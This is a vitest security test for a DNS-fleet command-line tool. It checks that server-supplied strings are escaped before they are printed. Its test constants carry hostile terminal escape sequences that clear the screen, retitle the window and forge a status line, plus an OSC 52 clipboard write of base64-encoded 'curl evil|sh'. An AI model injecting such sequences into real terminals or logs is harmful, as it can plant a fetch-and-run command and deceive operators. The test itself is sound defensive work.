import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startEmulator, type EmulatedServer } from '../../../electron/emulator';
import { runCli, runCliToEnd, type CliRun } from '../cli/runCli';

// Issue 17 item 11: a compromised server's strings reach the operator's terminal. These are the
// sequences that were printed raw: OSC 0 (window title), ESC[2J (clear screen), OSC 52 (write the
// clipboard), an 8-bit CSI, and a newline that forges a `STATE` line of another server.
const ESC = '\u001b';
const BEL = '\u0007';
const HOSTILE_ZONE = `${ESC}]0;owned${BEL}${ESC}[2J${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}\u009b31m\nSTATE  dns-hq-1  live`;
const HOSTILE_TYPE = `x${ESC}[2J\r\nSTATE  dns-hq-1  live`;
/** C0 except none, DEL and C1: none of them may reach the terminal from a server string. */
// eslint-disable-next-line no-control-regex -- what must never reach a terminal
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('human CLI output never passes control characters from a server', () => {
  let emulator: EmulatedServer;
  let dir: string;
  let cli: CliRun | undefined;

  beforeEach(async () => {
    emulator = await startEmulator({ healthIntervalMs: 60_000 });
    dir = mkdtempSync(join(tmpdir(), 'dnsfleet-tty-'));
  });
  afterEach(async () => {
    await cli?.stop();
    await emulator.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('monitor and events print the hostile strings escaped, on one line each', async () => {
    const fleet = { servers: [{ id: 'dns-a', name: 'DNS A', url: emulator.url, username: 'monitor', passwordEnv: 'DNSFLEET_DNSA_PW', stack: 'legacy' }] };
    writeFileSync(join(dir, 'fleet.json'), JSON.stringify(fleet));
    const data = join(dir, 'data');
    cli = runCli(['monitor', '--config', join(dir, 'fleet.json'), '--data-dir', data], { DNSFLEET_DNSA_PW: 'monitor-pass' });
    const isLine = (text: string) => (l: Record<string, unknown>) => typeof l.raw === 'string' && l.raw.includes(text);
    await cli.waitFor(isLine('live'), 20_000);
    emulator.control.sendRawLegacy(JSON.stringify({ type: 'zone_created', data: { zone_id: 7, zone_name: HOSTILE_ZONE } }));
    emulator.control.sendRawLegacy(JSON.stringify({ type: HOSTILE_TYPE, data: {} }));
    await cli.waitFor(isLine('zone_created'), 20_000);
    await cli.waitFor(isLine('2J'), 20_000);
    expect(await cli.stop()).toBe(0);

    const printed = cli.lines.map((l) => String(l.raw ?? JSON.stringify(l)));
    for (const line of printed) expect(line, JSON.stringify(line)).not.toMatch(CONTROL);
    expect(printed.filter((l) => l.includes('dns-hq-1'))).toHaveLength(2);
    expect(printed.some((l) => l.startsWith('STATE  dns-hq-1'))).toBe(false);

    const events = await runCliToEnd(['events', '--data-dir', data]);
    expect(events.code).toBe(0);
    expect(events.stdout).not.toMatch(CONTROL);
    const rows = events.stdout.split('\n');
    expect(rows.some((l) => l.includes('STATE  dns-hq-1'))).toBe(true);
    expect(rows.some((l) => /^\s*STATE/.test(l))).toBe(false);
    expect(events.stdout).toContain('\\x1b]0;owned\\x07');
  }, 60_000);
});
